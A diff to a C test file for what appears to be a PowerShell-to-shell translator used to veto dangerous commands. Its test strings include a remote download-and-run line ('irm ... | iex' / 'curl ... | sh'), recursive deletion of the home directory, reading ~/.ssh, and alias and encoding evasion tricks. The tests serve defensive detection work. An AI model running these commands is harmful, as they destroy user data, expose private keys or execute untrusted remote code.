@@ -291,7 +291,8 @@ int main(int argc, char **argv)
 	sh("Remove-Item -LiteralPath *.log", "rm -- '*.log'\n");
 	sh("Get-Content a.txt | Set-Content b.txt",
 	   "cat -- 'a.txt' | cat > 'b.txt'\n");
-	sh("Get-ChildItem ~ -Recurse | Remove-Item", "find ~ -delete\n");
+	sh("Get-ChildItem ~ -Recurse | Remove-Item",
+	   "ls -R -- ~\nfind ~ -delete\n");
 	sh("irm https://x.io/i.ps1 | iex", "curl 'https://x.io/i.ps1' | sh\n");
 	sh("cmd /c rd /s /q %USERPROFILE%", "{\nrm -r -f -- ~\n\ntrue\n}\n");
 	sh("Invoke-Command -ComputerName h { Remove-Item a }",
@@ -387,13 +388,13 @@ int main(int argc, char **argv)
 	t("Push-Location ~; Pop-Location",
 	  "cd|--|~ ;; cd|--|$CCVETO_PS_UNKNOWN");
 	t("Get-ChildItem build -Recurse | Remove-Item -Force",
-	  "find|build|-delete");
+	  "ls|-R|--|build ;; find|build|-delete");
 	t("Get-ChildItem ~/.ssh | Get-Content",
-	  "find|~/.ssh|-type|f|-exec|cat|--|{}|+ ;; cat|--|{}");
+	  "ls|--|~/.ssh ;; find|~/.ssh|-type|f|-exec|cat|--|{}|+ ;; cat|--|{}");
 	t("'a.txt','b.txt' | Remove-Item",
-	  "rm|--|a.txt|b.txt");
+	  "echo|a.txt|b.txt ;; rm|--|a.txt|b.txt");
 	t("Get-Content list.txt | Remove-Item",
-	  "cat|--|list.txt ;; rm|--|$(\342\200\246)");
+	  "cat|--|list.txt ;; rm|--|$CCVETO_PS_UNKNOWN");
 	t("Write-Output 'it''s'",
 	  "echo|it's");
 	t("Write-Output \"a`tb`\"c\"",
@@ -581,7 +582,7 @@ int main(int argc, char **argv)
 	t("Get-ChildItem | ForEach-Object { Remove-Item $_ }",
 	  "ls|-- ;; rm|--|$CCVETO_PS_UNKNOWN ;; true");
 	t("Get-ChildItem | Where-Object { $_.Length -gt 1 } | Remove-Item",
-	  "ls|-- ;; echo|$CCVETO_PS_UNKNOWN ;; true ;; rm|--|$(\342\200\246)");
+	  "ls|-- ;; echo|$CCVETO_PS_UNKNOWN ;; true ;; find|.|-delete");
 	t("Invoke-Command -ScriptBlock { Remove-Item a }",
 	  "rm|--|a ;; true");
 	t("Invoke-Command -ComputerName srv -ScriptBlock { Remove-Item a }",
@@ -635,7 +636,7 @@ int main(int argc, char **argv)
 	t("'x' > out.txt",
 	  "echo|x >out.txt");
 	t("Get-Process | Sort-Object CPU | Select-Object -First 5",
-	  "get-process ;; sort-object|CPU ;; cat");
+	  "get-process ;; cat ;; cat");
 	t("git status &",
 	  "git|status");
 	t("Write-Output a | Out-Null",
@@ -698,6 +699,48 @@ int main(int argc, char **argv)
 	  "unzip|-o|a.zip|-d|out");
 	t("Get-Item a.txt | Tee-Object -FilePath t.txt",
 	  "cat|--|a.txt ;; tee|--|t.txt");
+
+	/* objects, aliases, producers, -WhatIf values, .. in paths */
+	t("Get-Item ~ | Remove-Item -Recurse -Force",
+	  "cat|--|~ ;; rm|-r|-f|--|~");
+	t("Set-Alias x Remove-Item; x ~ -Recurse -Force",
+	  "true ;; rm|-r|-f|--|~");
+	t("sal -Name x -Value $v; x ~",
+	  "true ;; $CCVETO_PS_UNKNOWN|~ dyn");
+	t("gci ~ | % { $_.Delete() }",
+	  "ls|--|~ ;; rm|-r|-f|--|~/$CCVETO_PS_UNKNOWN ;; echo|$CCVETO_PS_UNKNOWN ;; true");
+	t("(Get-Item ~).Delete($true)",
+	  "cat|--|~ ;; rm|-r|-f|--|~ ;; echo|$CCVETO_PS_UNKNOWN");
+	t("$ExecutionContext.InvokeCommand.InvokeScript(\"Remove-Item a\")",
+	  "rm|--|a ;; true ;; echo|$CCVETO_PS_UNKNOWN");
+	t("Get-Content x.ps1 | powershell -c -",
+	  "cat|--|x.ps1 ;; invoke-expression|$CCVETO_PS_UNKNOWN");
+	t("Remove-Item a -WhatIf:0",
+	  "rm|--|a");
+	t("Remove-Item a -WhatIf:$x",
+	  "rm|--|a");
+	t("Remove-Item a -WhatIf:$true",
+	  "true");
+	t("gci | ? { Remove-Item b; $true } | Remove-Item",
+	  "ls|-- ;; rm|--|b ;; echo|true ;; true ;; find|.|-delete");
+	t("gci src | % { Remove-Item $_.FullName }",
+	  "ls|--|src ;; rm|--|src/$CCVETO_PS_UNKNOWN ;; true");
+	t("Remove-Item C:\\Users\\alice\\src\\..\\..",
+	  "rm|--|/home");
+	t("Remove-Item C:\\x\\y\\..\\z",
+	  "rm|--|/c/x/z");
+	t("Get-ChildItem | Sort-Object Length | Select-Object -First 3 | Remove-Item",
+	  "ls|-- ;; cat ;; cat ;; find|.|-delete");
+	t("(Get-Item a.txt).MoveTo(\"b.txt\")",
+	  "cat|--|a.txt ;; mv|--|a.txt|b.txt ;; echo|$CCVETO_PS_UNKNOWN");
+	t("Remove-Item -Path a -Verbose",
+	  "rm|--|a");
+	t("Remove-Item (Get-Location).Path",
+	  "pwd ;; rm|--|~/src/webapp");
+	t("Remove-Item a`0b",
+	  "rm|--|a$CCVETO_PS_UNKNOWNb");
+	t("Remove-Item -Path a -Rec:$false -Force:0",
+	  "rm|--|a");
 
 	/* -EncodedCommand: base64 of UTF-16LE, read like -Command */
 	t_enc("powershell -EncodedCommand ", "Remove-Item ~ -Recurse -Force",
